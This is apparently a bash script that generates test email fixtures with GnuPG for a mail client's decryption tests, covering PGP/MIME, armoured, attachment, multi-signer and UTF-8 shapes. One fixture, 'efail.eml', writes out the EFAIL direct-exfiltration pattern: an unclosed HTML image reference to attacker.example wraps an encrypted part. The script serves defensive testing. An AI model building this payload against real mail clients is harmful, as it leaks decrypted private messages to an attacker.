#!/usr/bin/env bash
# Makes messages in the shapes other mail clients and servers send, with GnuPG from the key-function
# test rings, for the decrypt road's end-to-end tests: an encrypted part beside plain parts (also
# after an HTML part that opens an image reference and never closes it), two encrypted parts in one
# message, several armoured blocks in one text, encrypted content sent as an attachment only
# (binary ".pgp", armoured ".asc", the PGP/MIME pair re-wrapped into multipart/mixed, and PGP/MIME
# whose encrypted part is Base64), a text signed by two signers, and UTF-8 text encrypted and
# clear-signed; then the nested ones of walk-shapes.sh and the partly signed ones of
# partly-signed.sh. Usage: make-shapes.sh KEY_FIXTURES OUTPUT_FOLDER
set -euo pipefail
keys="$1"
out="$2"
mkdir -p "$out"
source "$(dirname "${BASH_SOURCE[0]}")/../gpg-home.sh"

gpg --import "$keys/pubring.pkr"
gpg --passphrase ann-pass --import "$keys/secring.skr"
crlf() { sed 's/\r*$/\r/'; }
head_() { printf 'From: Ann Lee <ann@example.org>\r\nTo: bob@example.net\r\nSubject: %s\r\nMIME-Version: 1.0\r\n' "$1"; }
# A PGP/MIME encrypted part (RFC 3156) around an armoured message read from standard input.
pgpmime() {
  printf 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="%s"\r\n\r\n' "$1"
  printf 'This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\r\n'
  printf -- '--%s\r\nContent-Type: application/pgp-encrypted\r\nContent-Description: PGP/MIME version identification\r\n\r\nVersion: 1\r\n\r\n' "$1"
  printf -- '--%s\r\nContent-Type: application/octet-stream; name="encrypted.asc"\r\n' "$1"
  printf 'Content-Description: OpenPGP encrypted message\r\nContent-Disposition: inline; filename="encrypted.asc"\r\n\r\n'
  crlf
  printf -- '\r\n--%s--\r\n' "$1"
}
entity() { printf 'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\n%s\r\n' "$1"; }
toBob() { gpg --armor -r bob@example.net -e; }
PDF=$'%PDF-1.4\r\n% plain attachment\r\n%%EOF\r\n'
pdfPart() {
  printf -- '--%s\r\nContent-Type: application/pdf; name="plan.pdf"\r\nContent-Transfer-Encoding: base64\r\n' "$1"
  printf 'Content-Disposition: attachment; filename="plan.pdf"\r\n\r\n'
  printf '%s' "$PDF" | base64 -w 76 | crlf
}

# 1. A mailing list's footer and an attachment beside a PGP/MIME part.
{
  head_ "Footer"
  printf 'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n--outer\r\n'
  entity "The secret plan is in the attachment." | toBob | pgpmime inner1
  pdfPart outer
  printf -- '--outer\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n_______________\r\nlist footer\r\n--outer--\r\n'
} > "$out/pgpmime-beside-plain.eml"

# 2. The direct exfiltration shape: an HTML part opens an image reference that only a later part
# closes, with the encrypted part between them.
{
  head_ "Exfiltration"
  printf 'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n'
  printf -- '--outer\r\nContent-Type: text/html\r\n\r\n<img src="http://attacker.example/\r\n'
  printf -- '--outer\r\n'
  entity "The secret plan is in the attachment." | toBob | pgpmime inner2
  printf -- '--outer\r\nContent-Type: text/html\r\n\r\n">\r\n--outer--\r\n'
} > "$out/efail.eml"

# 3. Two encrypted parts, one inline-armoured text part and one PGP/MIME part.
{
  head_ "Two parts"
  printf 'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n'
  printf -- '--outer\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n'
  printf 'First secret.\n' | toBob | crlf
  printf -- '--outer\r\n'
  entity "Second secret." | toBob | pgpmime inner3
  printf -- '--outer--\r\n'
} > "$out/two-encrypted-parts.eml"

# 4. Several armoured blocks in one text: an encrypted one, a clear-signed one, text around them.
{
  printf 'From: Ann Lee <ann@example.org>\r\nTo: bob@example.net\r\nSubject: Blocks\r\n\r\nIntro line.\r\n\r\n'
  printf 'First secret.\n' | gpg --passphrase ann-pass -u ann@example.org -r bob@example.net --armor -s -e | crlf
  printf '\r\nText between the blocks.\r\n\r\n'
  printf 'Signed words.\n' | gpg --passphrase ann-pass -u ann@example.org --clearsign | crlf
  printf '\r\nBetween again.\r\n\r\n'
  printf 'Second secret.\n' | toBob | crlf
  printf '\r\nClosing line.\r\n'
} > "$out/several-blocks.eml"

# 5. Encrypted content as an attachment only: a binary ".pgp" file beside a text part, and alone;
# an armoured ".asc" file; the PGP/MIME pair re-wrapped as multipart/mixed by a server; PGP/MIME
# whose encrypted part is sent Base64.
printf 'The plan, as a file.\n' > "$home/plan.txt"
gpg -r bob@example.net -o "$home/plan.txt.pgp" -e "$home/plan.txt"
binaryPart() {
  printf -- '--%s\r\nContent-Type: application/octet-stream; name="plan.txt.pgp"\r\nContent-Transfer-Encoding: base64\r\n' "$1"
  printf 'Content-Disposition: attachment; filename="plan.txt.pgp"\r\n\r\n'
  base64 -w 76 < "$home/plan.txt.pgp" | crlf
}
{
  head_ "Binary attachment"
  printf 'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n--outer\r\nContent-Type: text/plain\r\n\r\nSee the file.\r\n'
  binaryPart outer
  printf -- '--outer--\r\n'
} > "$out/binary-attachment.eml"
{
  head_ "Binary attachment alone"
  printf 'Content-Type: application/octet-stream; name="plan.txt.gpg"\r\nContent-Transfer-Encoding: base64\r\n'
  printf 'Content-Disposition: attachment; filename="plan.txt.gpg"\r\n\r\n'
  base64 -w 76 < "$home/plan.txt.pgp" | crlf
} > "$out/binary-attachment-alone.eml"
{
  head_ "Armoured attachment"
  printf 'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n'
  printf -- '--outer\r\nContent-Type: application/octet-stream; name="plan.txt.asc"\r\n'
  printf 'Content-Disposition: attachment; filename="plan.txt.asc"\r\n\r\n'
  toBob < "$home/plan.txt" | crlf
  printf -- '--outer--\r\n'
} > "$out/armoured-attachment.eml"
{
  head_ "Rewrapped"
  printf 'Content-Type: multipart/mixed; boundary="rewrapped"\r\n\r\n'
  printf -- '--rewrapped\r\nContent-Type: application/pgp-encrypted\r\nContent-Disposition: attachment\r\n\r\nVersion: 1\r\n\r\n'
  printf -- '--rewrapped\r\nContent-Type: application/octet-stream; name="encrypted.asc"\r\n'
  printf 'Content-Disposition: attachment; filename="encrypted.asc"\r\n\r\n'
  entity "Rewrapped by the server." | toBob | crlf
  printf -- '--rewrapped--\r\n'
} > "$out/pgpmime-rewrapped.eml"
{
  head_ "Base64"
  printf 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b64"\r\n\r\n'
  printf -- '--b64\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n'
  printf -- '--b64\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n'
  entity "Sent as Base64 by the gateway." | toBob | crlf | base64 -w 76 | crlf
  printf -- '--b64--\r\n'
} > "$out/pgpmime-base64.eml"

# 6. One text signed by Ann and by Bob: one signature packet each.
printf 'Signed by two.\n' > "$home/two.txt"
{
  printf 'From: Ann Lee <ann@example.org>\r\nTo: bob@example.net\r\nSubject: Two signers\r\n\r\n'
  gpg --passphrase ann-pass -u ann@example.org -u bob@example.net --clearsign < "$home/two.txt" | crlf
} > "$out/two-signers.eml"

# 7. UTF-8 text, encrypted and clear-signed, with the armour's "Charset:" line that names it.
printf 'Gr\xc3\xbc\xc3\x9fe \xe2\x80\x93 5 \xe2\x82\xac, \xe2\x86\x92 \xe6\x97\xa5\xe6\x9c\xac\n' > "$home/utf8.txt"
{
  printf 'From: Ann Lee <ann@example.org>\r\nTo: bob@example.net\r\nSubject: UTF-8\r\nMIME-Version: 1.0\r\n'
  printf 'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n'
  gpg --passphrase ann-pass -u ann@example.org -r bob@example.net --armor -s -e < "$home/utf8.txt" |
    sed '1a Charset: UTF-8' | crlf
} > "$out/utf8-encrypted.eml"
{
  printf 'From: Ann Lee <ann@example.org>\r\nTo: bob@example.net\r\nSubject: UTF-8\r\nMIME-Version: 1.0\r\n'
  printf 'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n'
  gpg --passphrase ann-pass -u ann@example.org --clearsign < "$home/utf8.txt" | sed '/^-----BEGIN PGP SIGNATURE/a Charset: UTF-8' | crlf
} > "$out/utf8-clearsigned.eml"
source "$(dirname "${BASH_SOURCE[0]}")/walk-shapes.sh"
source "$(dirname "${BASH_SOURCE[0]}")/partly-signed.sh"
